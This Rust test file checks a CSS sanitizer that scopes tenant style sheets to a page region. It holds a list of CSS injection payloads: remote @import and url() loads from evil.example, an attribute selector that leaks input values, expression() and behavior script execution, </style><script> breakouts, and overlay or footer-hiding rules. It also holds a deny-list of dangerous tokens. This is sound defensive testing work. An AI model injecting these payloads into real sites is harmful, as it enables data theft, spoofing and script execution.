//! A corpus of attacks on pages by style sheets, and properties of whatever comes out.

use proptest::prelude::*;

use super::*;

#[test]
fn a_style_sheet_stays_what_it_was_and_is_put_beneath_its_part_of_the_page() {
    for (css, expected) in [
        ("h1{color:red}", ".tenant-page h1{color:red}\n"),
        (
            "h1 , .card > a:hover{ COLOR : #FFF ; margin:0 auto }",
            ".tenant-page h1,.tenant-page .card > a:hover{color:#FFF;margin:0 auto}\n",
        ),
        (
            "body{background:linear-gradient(90deg,#fff 0%,rgb(0 0 0/50%))}",
            ".tenant-page{background:linear-gradient(90deg,#fff 0%,rgb(0 0 0/50%))}\n",
        ),
        (
            ":root{--brand:#f00} a{color:var(--brand)}",
            ".tenant-page{--brand:#f00}\n.tenant-page a{color:var(--brand)}\n",
        ),
        ("html > body .x{top:0}", ".tenant-page .x{top:0}\n"),
        (
            "@media (max-width:600px){p{font-size:12px}}",
            "@media (max-width:600px){\n.tenant-page p{font-size:12px}\n}\n",
        ),
        (
            "@keyframes spin{from{rotate:0deg}50%,to{rotate:1turn}}",
            "@keyframes spin{\nfrom{rotate:0deg}\n50%,to{rotate:1turn}\n}\n",
        ),
        ("a::before{content:\"\\201C\"}", ".tenant-page a::before{content:\"“\"}\n"),
        (
            "li:nth-child(2n + 1) [data-x^=\"y\" i]{color:red}",
            ".tenant-page li:nth-child(2n + 1) [data-x^=\"y\" i]{color:red}\n",
        ),
        ("a{width:calc(100% - 2*var(--x))}", ".tenant-page a{width:calc(100% - 2*var(--x))}\n"),
        (
            "a{background:url(data:image/png;base64,AAAA)}",
            ".tenant-page a{background:url(\"data:image/png;base64,AAAA\")}\n",
        ),
        ("a{color:red!important}", ".tenant-page a{color:red}\n"),
        ("a{}", ""),
    ] {
        let clean = stylesheet(css);
        assert_eq!((clean.css.as_str(), clean.dropped.as_slice()), (expected, [].as_slice()), "{css}");
        assert_eq!(stylesheet(&clean.css), clean, "a fixed point: {css}");
    }
}

/// Each attack beside a rule that is to survive it.
#[test]
fn attacks_are_left_out_and_told_and_the_rest_stays() {
    for attack in ATTACKS.iter().chain(BROKEN) {
        let css = format!("{attack}\n;}}\nh2{{color:green}}\n");
        let clean = stylesheet(&css);
        check_harmless(&clean.css).unwrap_or_else(|what| panic!("{attack}: {what} in {}", clean.css));
        assert!(!clean.dropped.is_empty() || BROKEN.contains(attack), "{attack} is told: {}", clean.css);
        assert_eq!(stylesheet(&clean.css).css, clean.css, "{attack}");
    }
}

#[test]
fn what_was_left_out_has_its_line_and_its_reason() {
    let css = "h1{color:red}\n@import 'evil.css';\np{\n  position: fixed;\n  color:blue\n}\n";
    let clean = stylesheet(css);
    assert_eq!(clean.css, ".tenant-page h1{color:red}\n.tenant-page p{color:blue}\n");
    let told: Vec<_> = clean.dropped.iter().map(|dropped| (dropped.line, dropped.text.as_str())).collect();
    assert_eq!(told, [(2, "@import 'evil.css'"), (4, "position: fixed;")]);
}

#[test]
fn deep_nesting_ends_and_costs_little() {
    for opening in ["a{b:(", "@media (", "@media x{", "a:not(", "a[", "{", "(", "a{b:calc("] {
        let css = opening.repeat(10_000 / opening.len());
        check_harmless(&stylesheet(&css).css).unwrap();
    }
}

#[rustfmt::skip]
const ATTACKS: &[&str] = &[
    // What loads.
    "@import url(https://evil.example/x.css);",
    "@IMPORT 'https://evil.example/x.css' screen;",
    "@\\69mport 'evil.css';",
    "@charset \"utf-7\"; @import 'x';",
    "@namespace svg url(http://www.w3.org/2000/svg);",
    "@font-face{font-family:x;src:url(https://evil.example/f.woff)}",
    "a{background:url(https://evil.example/a.png)}",
    "a{background:url( 'https://evil.example/a.png' )}",
    "a{background:URL(//evil.example/a.png)}",
    "a{background:u\\72 l(https://evil.example/a.png)}",
    "a{background:url(/relative.png)}",
    "a{background:url(javascript:alert(1))}",
    "a{background:url(data:image/svg+xml,%3Csvg%3E)}",
    "a{background:url(data:image/svg+xml;base64,AAAA)}",
    "a{background:url(data:text/html,<script>alert(1)</script>)}",
    "a{background:image-set('https://evil.example/a.png' 1x)}",
    "a{background:-webkit-image-set(url(https://evil.example/a.png) 1x)}",
    "a{background:image('https://evil.example/a.png')}",
    "a{background:src('https://evil.example/a.png')}",
    "a{background:cross-fade(url(https://evil.example/a.png),url(b))}",
    "a{--x:url(https://evil.example/a.png);background:var(--x)}",
    "input[value^=\"a\"]{background:url(https://evil.example/?a)}",
    "a{cursor:url(https://evil.example/c.cur),auto}",
    "a{list-style:url(https://evil.example)}",
    "a{content:url(https://evil.example)}",
    "a{mask:url(https://evil.example/#x)}",
    "a{background:url(/.well-known/tenantry/assets/../../../x)}",
    // What runs.
    "a{width:expression(alert(1))}",
    "a{width:exp/**/ression(alert(1));-ms-filter:'x'}",
    "a{width:\\65xpression(alert(1))}",
    "a{behavior:url(x.htc)}",
    "a{-moz-binding:url('http://evil.example/x.xml#y')}",
    "a{background:paint(evil)}",
    // What ends the element.
    "</style><script>alert(1)</script>",
    "a{content:'</style><script>alert(1)</script>'}",
    "a{content:\"\\3c/style\\3e\"}",
    "a{color:red}</style>{}",
    "<!-- a{color:red} --> <",
    "a\\3c b{color:red}",
    // What leaves its place.
    "div{position:fixed;inset:0}",
    "div{position: FIXED}",
    "div{position:/**/fixed}",
    "div{position:f\\69xed}",
    "div{--p:fixed;position:var(--p)}",
    "div{position:-webkit-sticky fixed}",
    "body{display:contents}",
    "h1,:root{DISPLAY:Contents}",
    "body{display:block contents}",
    "body ~ footer{display:none}",
    "body + footer{display:none}",
    "html > body ~ .edge-foot{display:none}",
    "~ .edge-foot{display:none}",
    "> footer{display:none}",
    ".tenant-page ~ .edge-foot{display:none}",
    "a{& ~ footer{color:red}}",
    "a{} @scope (html){footer{display:none}}",
    "@layer x{footer{display:none}}",
    "@page{margin:0}",
    "@property --x{syntax:'*';inherits:false}",
    "@container (width > 1px){a{color:red}}",
    ":host(x){color:red}",
    "svg|a{color:red}",
    "a:-moz-any(b){color:red}",
    "a{all:initial}",
];

/// What is broken may be mended or left out.
#[rustfmt::skip]
const BROKEN: &[&str] = &[
    "a{color:red",
    "a{color:\"unclosed\n;}",
    "a{background:url(a b)}",
    "a{color:red;;;:x}",
    "a{x}",
    "a:b:",
    "a{grid-area:{}}",
    "{color:red}",
    ",a{color:red}",
    "a,{color:red}",
    "a..b{color:red}",
    "a >{color:red}",
    "a > > b{color:red}",
    "@media{a{color:red}",
    "@media <x{a{color:red}}",
];

/// What must not be in a style sheet that is served, read as a browser would: its names with their escapes undone.
fn check_harmless(css: &str) -> Result<(), String> {
    if css.contains(['<', '\0']) {
        return Err("a character that ends the element".into());
    }
    if css.lines().any(|line| {
        line.contains("{")
            && !line.starts_with(['@', '.', 'f', 't'])
            && !line.starts_with(|c: char| c.is_ascii_digit() || c == '-' || c == '+')
    }) {
        return Err("a rule without its scope".into());
    }
    tokens(&mut Parser::new(css), &mut String::new())
}

/// Looks at every token, within blocks too.
fn tokens(input: &mut Parser<'_>, before: &mut String) -> Result<(), String> {
    use cssparser::Token;
    while let Ok(token) = input.next().cloned() {
        match &token {
            Token::AtKeyword(name) if !["media", "supports", "keyframes"].contains(&&**name) => {
                return Err(format!("@{name}"));
            }
            Token::Ident(name) => {
                let name = name.to_ascii_lowercase();
                if name == "fixed" && before == "position" {
                    return Err("position:fixed".into());
                }
                if ["behavior", "-moz-binding", "-ms-behavior"].contains(&name.as_str()) {
                    return Err(name);
                }
                *before = name;
            }
            Token::UnquotedUrl(_) | Token::BadUrl(_) | Token::BadString(_) | Token::CDO | Token::CDC => {
                return Err(format!("{token:?}"));
            }
            Token::Function(name) if name.eq_ignore_ascii_case("url") => {
                let url = input
                    .parse_nested_block(|input| -> Result<_, ParseError<()>> { Ok(input.expect_string_cloned()?) });
                let url = url.map_err(|_| "a url() that is no text".to_owned())?;
                if !url.starts_with("data:image/") && !url.starts_with("/.well-known/tenantry/assets/") {
                    return Err(format!("url({url})"));
                }
            }
            Token::Function(name) => {
                let name = name.to_ascii_lowercase();
                if ["expression", "image-set", "image", "src", "paint", "element", "attr", "env"]
                    .contains(&name.as_str())
                {
                    return Err(name);
                }
                within(input)?;
            }
            Token::CurlyBracketBlock | Token::ParenthesisBlock | Token::SquareBracketBlock => within(input)?,
            _ => {}
        }
    }
    Ok(())
}

fn within(input: &mut Parser<'_>) -> Result<(), String> {
    let found =
        input.parse_nested_block(|input| -> Result<_, ParseError<()>> { Ok(tokens(input, &mut String::new())) });
    found.map_err(|_| "too deep".to_owned())?
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn whatever_goes_in_comes_out_harmless_and_stays_as_it_is(pieces in prop::collection::vec(piece(), 0..40)) {
        let clean = stylesheet(&pieces.concat());
        prop_assert_eq!(check_harmless(&clean.css), Ok(()), "{}", clean.css);
        let again = stylesheet(&clean.css);
        prop_assert_eq!(&again.css, &clean.css);
        prop_assert!(again.dropped.is_empty(), "{:?} of {}", again.dropped, clean.css);
    }

    #[test]
    fn any_text_is_survived(css in "\\PC{0,200}") {
        let clean = stylesheet(&css);
        prop_assert_eq!(check_harmless(&clean.css), Ok(()));
        prop_assert_eq!(stylesheet(&clean.css).css, clean.css);
    }
}

/// Pieces of style sheets, whole and broken, and of attacks.
fn piece() -> impl Strategy<Value = String> {
    let fixed = prop::sample::select(PIECES).prop_map(str::to_owned);
    prop_oneof![8 => fixed, 1 => "\\PC{1,3}", 1 => "[ -~]{1,4}"]
}

#[rustfmt::skip]
const PIECES: &[&str] = &[
    "a", "h1", ".x", "#id", "*", "body", "html", ":root", ".tenant-page", "::before", ":hover", ":not(", ":is(",
    ")", " ", ">", "+", "~", ",", "{", "}", "(", "[", "]", ";", ":", "color", "position", "fixed", "background",
    "--v", "var(--v)", "red", "#fff", "1px", "50%", "-1.5e3em", "+7", ".5", "1e3", "1\\65 3", "url(",
    "url(data:image/png;base64,AA==)", "url('https://evil')", "\"text\"", "'", "\"", "\\", "\\3c ", "\\0", "\n",
    "/*", "*/", "/**/", "<!--", "-->", "</style>", "<", "@media ", "(min-width:1px)", "@import", "@keyframes k",
    "from", "to", "expression(", "calc(1px + 2px)", "!", "!important", "&", "|", "=", "^=", "*=", "/", "-", "%",
    "é", "\u{a0}", "\u{200d}", "{color:red}", "a{color:red}",
];
